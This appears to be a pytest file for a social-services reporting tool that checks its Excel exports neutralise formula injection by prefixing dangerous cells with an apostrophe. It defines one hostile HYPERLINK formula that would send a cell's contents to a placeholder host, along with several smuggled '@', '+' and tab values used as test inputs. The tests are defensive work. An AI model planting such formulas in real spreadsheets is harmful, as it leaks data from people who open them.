"""Formula injection (issue 13, item 4): a text cell starting with =, +, -, @, tab or CR is
written as text with a leading apostrophe (OWASP) in every workbook the program writes."""
from __future__ import annotations

import json
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook

from kemensos_desk.cli.main import main
from kemensos_desk.core import regions
from kemensos_desk.documents.office import OfficeInfo
from kemensos_desk.documents.xlsx import FORMULA_TRIGGERS, ReportWorkbook, XColumn, as_text, neutralise_workbook
from kemensos_desk.ministry import rakor as ministry_rakor
from kemensos_desk.ministry.models import MinistryOffice, MinistrySummary
from kemensos_desk.services.dekon.files import save_workbook
from kemensos_desk.services.spm import register as reg

from test_spm_register import person
from test_spm_support import OPERATOR, PASSWORD, make_office
from test_sync_support import ministry_for

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


def assert_no_formula(path) -> None:
    """Neither openpyxl nor the raw sheet XML sees a formula anywhere in the workbook."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(path)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def texts(path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [c.value for s in wb.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_gets_an_apostrophe_and_other_values_are_untouched(trigger):
    assert as_text(trigger + "1+1") == "'" + trigger + "1+1"
    for value in ("Siti Aminah", "", None, 12, -5, 1.5, "–", "Jl. Merdeka 1"):
        assert as_text(value) == value


def test_neutralise_workbook_turns_formulas_back_into_text(tmp_path):
    wb = Workbook()
    wb.active["A1"] = HOSTILE
    wb.active["B1"] = "@SUM(1)"
    wb.active["C1"] = 42
    neutralise_workbook(wb)
    out = tmp_path / "x.xlsx"
    wb.save(out)
    assert_no_formula(out)
    assert openpyxl.load_workbook(out).active["A1"].value == "'" + HOSTILE


def test_report_workbook_and_dekon_writer(tmp_path):
    office = OfficeInfo(government="Pemerintah", unit="=Dinas Sosial", region_name="Kabupaten Majalengka",
                        address="-", head_name="X", head_nip="1")
    book = ReportWorkbook(office)
    sheet = book.sheet("Data", "-judul", columns=[XColumn("Nama"), XColumn("Jumlah", "int")])
    sheet.row([HOSTILE, -3])
    out = book.save(tmp_path / "laporan.xlsx")
    assert_no_formula(out)
    assert "'" + HOSTILE in texts(out)
    assert openpyxl.load_workbook(out).active["B" + str(sheet.next_row - 1)].value == -3  # numbers stay numbers
    wb = Workbook()
    wb.active["A1"] = "+628123"
    assert_no_formula(save_workbook(wb, tmp_path / "dekon.xlsx"))


def test_spm_export_writes_a_hostile_name_and_notes_as_text(tmp_path, monkeypatch, capsys):
    ws = make_office(tmp_path)
    reg.create_person(ws, OPERATOR, person(name="Siti Aminah", notes=HOSTILE, street="@jalan"), ["lansia"], 2025)
    data = ws.data_dir
    ws.close()
    monkeypatch.setenv("KEMENSOS_DESK_PASSWORD", PASSWORD)
    out = tmp_path / "penerima.xlsx"
    assert main(["--data-dir", str(data), "--user", "admin", "spm", "export", "--out", str(out)]) == 0
    assert_no_formula(out)
    values = texts(out)
    assert "'" + HOSTILE in values and "'@jalan" in values and "Siti Aminah" in values


def test_ministry_report_and_rakor_keep_a_hostile_office_name_as_text(tmp_path, capsys):
    url = str(tmp_path / "m.sqlite")
    store = ministry_for(url)
    code = regions.kabkota("32")[0].code
    with store.session() as s:
        s.add(MinistryOffice(code=code, name=HOSTILE, level="kabupaten", public_key="x"))
        s.add(MinistrySummary(office_code=code, module="spm", bundle_created_at="2024-01-10T00:00:00Z",
                              data=json.dumps({"year_end_index": [
                                  {"year": y, "service": "lansia", "index": 70.0, "entitled": 3} for y in (2022, 2023)]})))
    store.dispose()
    out = tmp_path / "laporan.xlsx"
    assert main(["ministry", "report", "--db", url, "--year", "2023", "--out", str(out)]) == 0
    assert_no_formula(out)
    assert "'" + HOSTILE in texts(out)
    rk = ministry_rakor.write_xlsx(tmp_path / "rakor.xlsx", 2026, [
        {"office": code, "office_name": HOSTILE, "draft_status": "approved", "seq": 1, "ro": "-1",
         "description": "\tdeskripsi", "volume": 1, "unit": "paket", "unit_cost": 10, "total": 10,
         "location": "\rlokasi", "priority": 1, "justification": "+x", "gap_service": None}])
    assert_no_formula(rk)
    assert {"'" + HOSTILE, "'\tdeskripsi", "'+x", "'-1"} <= set(texts(rk))
